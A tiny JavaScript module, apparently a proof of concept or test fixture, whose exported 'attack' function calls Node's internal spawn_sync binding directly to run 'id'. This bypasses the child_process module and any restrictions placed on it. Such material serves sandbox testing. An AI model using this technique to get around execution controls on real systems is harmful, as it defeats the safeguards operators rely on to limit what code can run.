// Under child_process: the binding it is made of.
'use strict';
exports.attack = () => {
  const stdio = [{ type: 'ignore' }, { type: 'pipe', readable: false, writable: true }, { type: 'ignore' }];
  const done = process.binding('spawn_sync').spawn({ file: 'id', args: ['id'], envPairs: [`PATH=${process.env.PATH}`], stdio });
  if (done.error) throw new Error(`spawn: ${done.error}`);
  return done.output[1].toString();
};
